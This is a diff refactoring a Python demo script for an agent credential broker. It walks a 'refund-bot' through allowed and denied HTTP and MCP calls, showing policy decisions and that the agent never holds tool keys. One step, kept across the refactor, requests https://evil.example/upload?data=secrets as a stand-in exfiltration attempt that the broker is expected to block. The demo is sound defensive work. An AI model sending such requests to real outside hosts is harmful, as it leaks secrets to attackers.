@@ -2,20 +2,31 @@
 
 import json
 import ssl
-import urllib.error
-import urllib.request
-from collections.abc import Callable
+from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from typing import Any
 
-import anyio
 import httpx2
 from mcp import Client
 from mcp.client.streamable_http import streamable_http_client
 
-from broker.demo.tools import Payments, Seen, Wiki
+from broker.demo.tools import Tool
 
 AGENT = "refund-bot"
+
+# Title, method, URL, body, and the decision that it must get.
+_HTTP_CALLS: tuple[tuple[str, str, str, Any, str], ...] = (
+    ("1. A call within the manifest", "POST", "{api}/v1/refunds", {"charge": "ch_1", "amount": 1200}, "allow"),
+    ("2. A parameter out of bounds", "POST", "{api}/v1/refunds", {"charge": "ch_1", "amount": 99000}, "params_invalid"),
+    ("3. An operation that the manifest does not list", "DELETE", "{api}/v1/charges/ch_1", None, "operation_not_declared"),
+    ("4. A host that nobody declared", "GET", "https://evil.example/upload?data=secrets", None, "host_not_declared"),
+)
+# Title, MCP tool, arguments, and the decision.
+_MCP_CALLS = (
+    ("6. The tool that it lists", "search_pages", {"query": "refunds"}, "allow"),
+    ("7. The one that it does not", "delete_page", {"page": "home"}, "operation_not_declared"),
+    ("8. The session goes on", "search_pages", {"query": "fees"}, "allow"),
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -37,102 +48,64 @@ class Surprise(Exception):
 class Tour:
     """Walks the steps. `say` prints a line."""
 
-    def __init__(self, place: Place, payments: Payments, wiki: Wiki, say: Callable[[str], None]) -> None:
-        self._place = place
-        self._payments = payments
-        self._wiki = wiki
-        self._say = say
+    def __init__(self, place: Place, payments: Tool, wiki: Tool, say: Callable[[str], None]) -> None:
+        self._place, self._payments, self._wiki, self._say = place, payments, wiki, say
         proxy = f"http://{AGENT}:{place.token}@{place.proxy}"
-        context = ssl.create_default_context(cafile=place.ca)
-        self._http = urllib.request.build_opener(
-            urllib.request.ProxyHandler({"https": proxy, "http": proxy}), urllib.request.HTTPSHandler(context=context)
-        )
+        self._http = httpx2.AsyncClient(proxy=proxy, verify=ssl.create_default_context(cafile=place.ca))
 
-    def walk(self) -> None:
+    async def walk(self) -> None:
         """Every step, in order. Raises `Surprise`."""
-        api = f"https://localhost:{self._payments.port}"
         self._say("An agent's environment holds HTTPS_PROXY and SSL_CERT_FILE. It holds no key of any tool.")
-        self._step(
-            "1. A call within the manifest", "POST", f"{api}/v1/refunds", {"charge": "ch_1", "amount": 1200}, expect="allow"
-        )
-        self._step(
-            "2. A parameter out of bounds",
-            "POST",
-            f"{api}/v1/refunds",
-            {"charge": "ch_1", "amount": 99000},
-            expect="params_invalid",
-        )
-        self._step(
-            "3. An operation that the manifest does not list", "DELETE", f"{api}/v1/charges/ch_1", expect="operation_not_declared"
-        )
-        self._step(
-            "4. A host that nobody declared", "GET", "https://evil.example/upload?data=secrets", expect="host_not_declared"
-        )
-        anyio.run(self._mcp)
+        for title, method, url, body, expected in _HTTP_CALLS:
+            target = url.format(api=f"https://localhost:{self._payments.port}")
+            what = f"{method} {target}" + (f" {json.dumps(body)}" if body else "")
+            await self._step(title, what, expected, self._payments, self._send(method, target, body))
+        http = httpx2.AsyncClient(headers={"x-broker-token": self._place.token})
+        async with http, Client(streamable_http_client(f"http://{self._place.base_url}/wiki", http_client=http)) as client:
+            listed = [tool.name for tool in (await client.list_tools()).tools]
+            self._say("\n5. An MCP server with two tools, of which the manifest lists one")
+            self._say(f"  call      tools/list\n  decision  allow, shows {listed}")
+            if listed != ["search_pages"]:
+                raise Surprise(f"tools/list shows {listed}")
+            for title, name, arguments, expected in _MCP_CALLS:
+                what = f"tools/call {name} {json.dumps(arguments)}"
+                await self._step(title, what, expected, self._wiki, _call(client, name, arguments))
 
-    def _step(self, title: str, method: str, url: str, body: Any = None, *, expect: str) -> None:
-        self._payments.seen.clear()
-        self._say(f"\n{title}")
-        self._say(f"  call      {method} {url}" + (f" {json.dumps(body)}" if body else ""))
-        verdict, words = self._send(method, url, body)
+    async def _step(self, title: str, what: str, expected: str, tool: Tool, sent: Awaitable[tuple[str, str]]) -> None:
+        tool.seen.clear()
+        self._say(f"\n{title}\n  call      {what}")
+        code, words = await sent
         self._say(f"  decision  {words}")
-        self._tell(self._payments.seen)
-        if verdict != expect or bool(self._payments.seen) != (expect == "allow"):
-            raise Surprise(f"{title}: expected {expect}, got {verdict}")
-
-    def _send(self, method: str, url: str, body: Any) -> tuple[str, str]:
-        data = json.dumps(body).encode() if body else None
-        request = urllib.request.Request(url, data, {"content-type": "application/json"}, method=method)  # noqa: S310 - our own
-        try:
-            with self._http.open(request, timeout=10) as answer:
-                return "allow", f"allow (HTTP {answer.status})"
-        except urllib.error.HTTPError as error:
-            with error:
-                problem = json.loads(error.read())
-            pointers = "".join(f"\n            at {each['pointer']}, by {each['rule']}" for each in problem["violations"])
-            return problem["code"], f"deny {problem['code']}: {problem['detail']} (HTTP {error.code}){pointers}"
-        except urllib.error.URLError as error:
-            # A client shows only the status of a refused CONNECT; why is in the record.
-            code = self._place.last_code() if "Tunnel connection failed: 403" in str(error.reason) else "failed"
-            return code, f"deny {code}: the agent sees {str(error.reason)!r}"
-
-    def _tell(self, seen: list[Seen]) -> None:
-        for each in seen:
-            self._say(f"  upstream  {each.request}")
-            self._say(f"            authorization: {_shortened(each.authorization)}  (the agent never held it)")
-        if not seen:
+        for seen in tool.seen:
+            self._say(f"  upstream  {seen.request}")
+            self._say(f"            authorization: {_shortened(seen.authorization)}  (the agent never held it)")
+        if not tool.seen:
             self._say("  upstream  saw nothing")
+        if code != expected or bool(tool.seen) != (expected == "allow"):
+            raise Surprise(f"{title}: expected {expected}, got {code}")
 
-    async def _mcp(self) -> None:
-        headers = {"x-broker-token": self._place.token}
-        async with httpx2.AsyncClient(headers=headers) as http:
-            transport = streamable_http_client(f"http://{self._place.base_url}/wiki", http_client=http)
-            async with Client(transport) as client:
-                listed = [tool.name for tool in (await client.list_tools()).tools]
-                self._say("\n5. An MCP server with two tools, of which the manifest lists one")
-                self._say(f"  call      tools/list\n  decision  allow, shows {listed}")
-                self._expect(listed == ["search_pages"], f"tools/list shows {listed}")
-                await self._call(client, "6. The tool that it lists", "search_pages", {"query": "refunds"}, denied=False)
-                await self._call(client, "7. The one that it does not", "delete_page", {"page": "home"}, denied=True)
-                await self._call(client, "8. The session goes on", "search_pages", {"query": "fees"}, denied=False)
+    async def _send(self, method: str, url: str, body: Any) -> tuple[str, str]:
+        content = json.dumps(body) if body else None
+        try:
+            answer = await self._http.request(method, url, content=content, headers={"content-type": "application/json"})
+        except httpx2.ProxyError as error:
+            # A client shows only the status of a refused CONNECT; why is in the record.
+            code = self._place.last_code()
+            return code, f"deny {code}: the agent sees {str(error)!r}"
+        if answer.is_success:
+            return "allow", f"allow (HTTP {answer.status_code})"
+        problem = answer.json()
+        pointers = "".join(f"\n            at {each['pointer']}, by {each['rule']}" for each in problem["violations"])
+        return problem["code"], f"deny {problem['code']}: {problem['detail']} (HTTP {answer.status_code}){pointers}"
 
-    async def _call(self, client: Client, title: str, name: str, arguments: dict[str, Any], *, denied: bool) -> None:
-        self._wiki.seen.clear()
-        result = await client.call_tool(name, arguments)
-        text = getattr(result.content[0], "text", "")
-        self._say(f"\n{title}\n  call      tools/call {name} {json.dumps(arguments)}")
-        problem = json.loads(text) if result.is_error else {}
-        self._say(
-            f"  decision  deny {problem['code']}: {problem['detail']}" if problem else f"  decision  allow, answers {text!r}"
-        )
-        self._tell([Seen(f"tools/call {name}", seen.authorization) for seen in self._wiki.seen if "tools/call" in seen.request])
-        self._expect(
-            result.is_error is denied and any("tools/call" in seen.request for seen in self._wiki.seen) is not denied, title
-        )
 
-    def _expect(self, true: object, what: str) -> None:
-        if not true:
-            raise Surprise(what)
+async def _call(client: Client, name: str, arguments: dict[str, str]) -> tuple[str, str]:
+    result = await client.call_tool(name, arguments)
+    text = getattr(result.content[0], "text", "")
+    if not result.is_error:
+        return "allow", f"allow, answers {text!r}"
+    problem = json.loads(text)
+    return problem["code"], f"deny {problem['code']}: {problem['detail']}"
 
 
 def _shortened(value: str) -> str:
